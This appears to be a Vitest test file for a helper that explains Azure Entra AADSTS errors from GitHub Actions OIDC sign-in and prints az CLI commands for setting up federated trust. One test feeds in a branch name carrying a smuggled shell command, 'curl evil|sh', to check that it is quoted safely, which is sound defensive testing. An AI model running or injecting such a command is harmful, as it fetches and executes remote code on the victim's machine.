import { describe, expect, it } from 'vitest'
import { explainExchange } from '../../src/azure/sign-in/aadsts'
import { otherSubjectForm, trustInstructions } from '../../src/azure/sign-in/federated-credential'
import type { TokenClaims } from '../../src/azure/sign-in/oidc-token'

const claims: TokenClaims = {
  issuer: 'https://token.actions.githubusercontent.com',
  subject: 'repo:octo/app:ref:refs/heads/main',
  audience: 'api://AzureADTokenExchange',
  repository: 'octo/app',
  repositoryId: '456',
  repositoryOwnerId: '123',
  jobWorkflowRef: '',
}
const facts = {
  clientId: '11111111-2222-3333-4444-555555555555',
  tenantId: 'contoso.onmicrosoft.com',
  cloudName: 'azurecloud',
  federationAudience: 'api://AzureADTokenExchange',
  claims,
}

describe('explainExchange', () => {
  it.each([
    ['700016', 'entra-client-unknown', facts.clientId, 'swapped'],
    ['90002', 'entra-tenant-unknown', facts.tenantId, 'tenant-id'],
    ['900023', 'entra-tenant-unknown', facts.tenantId, 'tenant-id'],
    ['70021', 'entra-no-matching-credential', claims.subject, 'az identity federated-credential create'],
    ['700213', 'entra-no-matching-credential', claims.subject, 'az ad app federated-credential create'],
    ['700211', 'entra-issuer-mismatch', claims.issuer, 'az identity federated-credential create'],
    ['700211', 'entra-issuer-mismatch', claims.issuer, 'a slash at its end makes it another issuer'],
    ['70025', 'entra-no-credential', facts.clientId, 'az ad app federated-credential create'],
    ['7000112', 'entra-client-disabled', 'is disabled', 'az ad sp update --id'],
    ['700212', 'entra-audience-mismatch', claims.audience, 'az ad app federated-credential create'],
    ['7002138', 'entra-subject-case', claims.subject, 'casing'],
    ['700024', 'entra-assertion-expired', 'no longer valid', 'five minutes'],
    ['700027', 'entra-assertion-invalid', claims.issuer, 'issuer'],
    ['7000215', 'entra-client-secret', 'secret', 'uses no secrets'],
    ['53003', 'entra-conditional-access', facts.clientId, 'sign-in logs'],
    ['50076', 'entra-conditional-access', facts.clientId, 'sign-in logs'],
    ['7000229', 'entra-principal-missing', 'service principal', 'az ad sp create --id'],
    ['999999', 'entra-refused', facts.clientId, 'az identity federated-credential create'],
  ])('AADSTS%s is %s', (number, code, inMessage, inHint) => {
    const error = explainExchange(`invalid_client: AADSTS${number}: Something. Trace ID: abc`, facts)
    expect(error.code).toBe(code)
    expect(error.message).toContain(inMessage)
    expect(error.message).toContain(`AADSTS${number}`)
    expect(error.hint).toContain(inHint)
  })

  it.each([
    'endpoints_resolution_error: Endpoints cannot be resolved',
    'openid_config_error: could not retrieve',
  ])('knows an unknown tenant by %s', (text) => {
    const error = explainExchange(text, { ...facts, tenantId: facts.clientId })
    expect(error.code).toBe('entra-tenant-unknown')
    expect(error.hint).toContain('tenant-id is the same as client-id')
    expect(error.hint).not.toMatch(/run the job again/i)
  })

  it('says so when there is no number at all', () => {
    expect(explainExchange('getaddrinfo ENOTFOUND login', { ...facts }).code).toBe('entra-refused')
  })

  it('never repeats a token that the answer repeats', () => {
    const token = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJyZXBvIn0.c2lnbmF0dXJl'
    const error = explainExchange(`AADSTS700213: presented assertion ${token}`, facts)
    expect(`${error.message}${error.hint}`).not.toContain('c2lnbmF0dXJl')
  })
})

describe('trustInstructions', () => {
  it('prints both commands with exactly the presented values', () => {
    const text = trustInstructions(claims, facts.clientId).join('\n')
    expect(text).toContain('subject  repo:octo/app:ref:refs/heads/main')
    expect(text).toContain(
      '--issuer https://token.actions.githubusercontent.com --subject repo:octo/app:ref:refs/heads/main --audiences api://AzureADTokenExchange',
    )
    const parameters = /--parameters '([^']+)'/.exec(text)?.[1] ?? ''
    expect(JSON.parse(parameters)).toEqual({
      name: 'github-actions',
      issuer: claims.issuer,
      subject: claims.subject,
      audiences: [claims.audience],
    })
  })

  it('keeps a hostile branch name inside its quotes', () => {
    const hostile = { ...claims, subject: "repo:octo/app:ref:refs/heads/x';curl evil|sh;'" }
    const text = trustInstructions(hostile, facts.clientId).join('\n')
    expect(text).toContain(`--subject 'repo:octo/app:ref:refs/heads/x'\\'';curl evil|sh;'\\'''`)
  })

  it.each([
    ['repo:octo/app:environment:production', 'environment:'],
    ['repo:octo/app:pull_request', 'pull request'],
  ])('explains the subject %s', (subject, word) => {
    expect(trustInstructions({ ...claims, subject }, facts.clientId).join('\n')).toContain(word)
  })
})

describe('otherSubjectForm', () => {
  it.each([
    ['repo:octo/app:ref:refs/heads/main', 'repo:octo@123/app@456:ref:refs/heads/main'],
    ['repo:octo@123/app@456:environment:prod', 'repo:octo/app:environment:prod'],
    ['enterprise:custom:subject', undefined],
  ])('%s', (subject, other) => {
    expect(otherSubjectForm({ ...claims, subject })).toBe(other)
  })

  it('is unknown without ids', () => {
    expect(otherSubjectForm({ ...claims, repositoryId: '' })).toBeUndefined()
  })
})
